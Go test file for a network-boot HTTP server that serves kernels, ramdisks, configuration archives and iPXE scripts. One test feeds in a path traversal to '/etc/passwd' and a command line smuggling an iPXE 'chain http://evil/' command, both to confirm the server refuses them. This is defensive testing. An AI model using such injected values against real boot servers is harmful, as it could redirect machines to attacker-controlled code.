package boot

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"

	"github.com/go-chi/chi/v5"
	uroot "github.com/u-root/u-root/pkg/cpio"

	"github.com/slipway-metal/slipway/proto/agent"
)

// site is the HTTP side alone.
func site(t *testing.T, b *book, r Resolver) *httptest.Server {
	t.Helper()
	mux := chi.NewRouter()
	web := httptest.NewServer(mux)
	t.Cleanup(web.Close)
	s, err := New(Config{Resolver: r, Record: b.record, BaseURL: web.URL, Log: slog.New(slog.DiscardHandler)})
	must(t, err)
	mux.Mount(MountPath, s.Handler())
	return web
}

func get(t *testing.T, url string, header ...string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, url, nil)
	must(t, err)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	body, err := io.ReadAll(resp.Body)
	must(t, errors.Join(err, resp.Body.Close()))
	return resp, body
}

func TestFilesOfABootAreServedAndTold(t *testing.T) {
	b, plan := newBook(), testPlan(t)
	web := site(t, b, &fixed{plan: plan})
	dir := web.URL + "/boot/" + plan.Path
	if resp, body := get(t, dir+"/vmlinuz"); resp.StatusCode != 200 || len(body) != 3<<20 || resp.Header.Get("Cache-Control") != "no-store" {
		t.Error("kernel:", resp.Status, len(body), resp.Header)
	}
	r := b.await(t, func(r row) bool { return r.Fact == "kernel served" })
	if !r.OK || r.mac != plan.Config.BootMAC || !strings.HasPrefix(r.Detail["summary"].(string), "kernel served 3.1 MB of 3.1 MB in ") {
		t.Errorf("evidence %+v", r)
	}
	resp, body := get(t, dir+"/script.ipxe")
	for _, want := range []string{dir + "/vmlinuz ", dir + "/initrd ", dir + "/config.cpio ", " BOOTIF=01-52-54-00-aa-00-01 console=ttyS0,115200 quiet "} {
		if resp.StatusCode != 200 || !bytes.Contains(body, []byte(want)) {
			t.Errorf("script without %q: %s\n%s", want, resp.Status, body)
		}
	}
}

// The kernel reads ramdisk and configuration as one stream, the latter only at a
// multiple of 4 bytes.
func TestConfigurationIsReadBehindTheRamdisk(t *testing.T) {
	b, plan := newBook(), testPlan(t)
	web := site(t, b, &fixed{plan: plan})
	_, ramdisk := get(t, web.URL+"/boot/"+plan.Path+"/initrd")
	_, config := get(t, web.URL+"/boot/"+plan.Path+"/config.cpio")
	if len(ramdisk) != 24 || string(ramdisk) != "ramdisk of 21 bytes..\x00\x00\x00" {
		t.Fatalf("ramdisk of 21 bytes came as %q", ramdisk)
	}
	records, err := uroot.ReadAllRecords(uroot.Newc.Reader(bytes.NewReader(config)))
	must(t, err)
	last := records[len(records)-1]
	raw := make([]byte, last.FileSize)
	if _, err := last.ReadAt(raw, 0); err != nil && !errors.Is(err, io.EOF) {
		t.Fatal(err)
	}
	var got agent.BootConfig
	must(t, json.Unmarshal(raw, &got))
	if last.Name != ConfigName || last.Mode != 0o100600 || fmt.Sprint(got) != fmt.Sprint(plan.Config) {
		t.Errorf("%s %o %+v", last.Name, last.Mode, got)
	}
}

func TestRangesAndHead(t *testing.T) {
	b, plan := newBook(), testPlan(t)
	web := site(t, b, &fixed{plan: plan})
	url := web.URL + "/boot/" + plan.Path + "/initrd"
	for asked, want := range map[string]string{"bytes=0-6": "ramdisk", "bytes=19-22": "..\x00\x00", "bytes=-2": "\x00\x00"} {
		if resp, body := get(t, url, "Range", asked); resp.StatusCode != http.StatusPartialContent || string(body) != want {
			t.Errorf("%s: %s %q", asked, resp.Status, body)
		}
	}
	for range 3 {
		b.await(t, func(r row) bool { return r.Fact == "ramdisk served" && r.OK })
	}
	if resp, _ := get(t, url, "Range", "bytes=900-"); resp.StatusCode != http.StatusRequestedRangeNotSatisfiable {
		t.Error(resp.Status)
	}
	b.await(t, func(r row) bool { return r.Fact == "ramdisk refused" && !r.OK })
	rows := len(b.all())
	resp, err := http.Head(url)
	must(t, err)
	must(t, resp.Body.Close())
	if resp.ContentLength != 24 || len(b.all()) != rows {
		t.Error("HEAD:", resp.ContentLength, b.all()[rows:])
	}
}

func TestClientThatCloses(t *testing.T) {
	b, plan := newBook(), testPlan(t)
	must(t, os.Truncate(plan.Kernel, 200<<20))
	web := site(t, b, &fixed{plan: plan})
	ctx, cancel := context.WithCancel(t.Context())
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, web.URL+"/boot/"+plan.Path+"/vmlinuz", nil)
	must(t, err)
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	_, err = io.CopyN(io.Discard, resp.Body, 80<<20)
	cancel()
	must(t, errors.Join(err, resp.Body.Close()))
	r := b.await(t, func(r row) bool { return r.Fact == "kernel cut off" })
	if n := r.Detail["bytes"].(int64); r.OK || n < 80<<20 || n >= 200<<20 || !strings.HasPrefix(r.Detail["error"].(string), "client closed at ") {
		t.Errorf("evidence %+v", r)
	}
}

func TestWhatCanNotBeServed(t *testing.T) {
	b, plan := newBook(), testPlan(t)
	r := &fixed{plan: plan}
	web := site(t, b, r)
	for url, want := range map[string]int{
		"/boot/some-other-path-0/vmlinuz": 404, "/boot/short/vmlinuz": 404, "/boot/" + plan.Path + "/../../etc/passwd": 404,
		"/boot/" + plan.Path + "/passwd": 404, "/boot/fw/nothing": 404, "/boot/ipxe?mac=nonsense": 400, "/boot/ipxe?mac=00:00:00:00:00:00": 400,
	} {
		if resp, _ := get(t, web.URL+url); resp.StatusCode != want {
			t.Errorf("%s: %s, want %d", url, resp.Status, want)
		}
	}
	b.await(t, func(r row) bool { return r.Fact == "kernel refused" })
	must(t, os.Remove(plan.Kernel))
	if resp, body := get(t, web.URL+"/boot/"+plan.Path+"/vmlinuz"); resp.StatusCode != 503 || bytes.Contains(body, []byte("/")) {
		t.Errorf("%s %s", resp.Status, body)
	}
	b.await(t, func(r row) bool {
		return r.Fact == "kernel failed" && strings.Contains(r.Detail["error"].(string), "no such file")
	})
	r.plan.Cmdline = []string{"quiet\nchain http://evil/"}
	if resp, body := get(t, web.URL+"/boot/"+plan.Path+"/script.ipxe"); resp.StatusCode != 503 {
		t.Errorf("%s %s", resp.Status, body)
	}
	b.await(t, func(r row) bool { return r.Fact == "script failed" })
}

func TestScriptByMAC(t *testing.T) {
	b, plan := newBook(), testPlan(t)
	r := &fixed{plan: plan}
	web := site(t, b, r)
	ask := web.URL + "/boot/ipxe"
	if _, body := get(t, ask); !strings.Contains(string(body), ask+"?mac=${netX/mac:hexhyp}") {
		t.Errorf("without MAC: %s", body)
	}
	if _, body := get(t, ask+"?mac=52-54-00-AA-00-01"); !strings.Contains(string(body), plan.Path+"/vmlinuz") {
		t.Errorf("netboot: %s", body)
	}
	b.await(t, func(r row) bool { return r.Fact == "script served" && r.mac == "52:54:00:aa:00:01" })
	r.plan.Netboot = false
	if _, body := get(t, ask+"?mac=52:54:00:aa:00:01"); !strings.Contains(string(body), "sanboot --no-describe --drive 0x80") {
		t.Errorf("disk: %s", body)
	}
	r.err = errors.New("database is gone")
	resp, body := get(t, ask+"?mac=52:54:00:aa:00:01")
	if resp.StatusCode != 200 || !strings.Contains(string(body), "chain --replace --autofree "+ask+"?mac=52%3A54%3A00%3Aaa%3A00%3A01 ") {
		t.Errorf("undecided: %s %s", resp.Status, body)
	}
	b.await(t, func(r row) bool { return r.Fact == "script delayed" && !r.OK })
}

func TestConfigurationMistakesAreNamed(t *testing.T) {
	for want, cfg := range map[string]Config{
		"no resolver":       {BaseURL: "http://h:1"},
		"base URL":          {Resolver: &fixed{}, BaseURL: "https://h"},
		"network interface": {Resolver: &fixed{}, BaseURL: "http://h:1", DHCP: "full"},
		"see `ip link`":     {Resolver: &fixed{}, BaseURL: "http://h:1", DHCP: "full", Interface: "nosuch0"},
		"package ipxe":      {Resolver: &fixed{}, BaseURL: "http://h:1", DHCP: "full", Interface: "lo", FirmwareDir: t.TempDir()},
	} {
		if _, err := New(cfg); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("error %v, want one with %q", err, want)
		}
	}
}
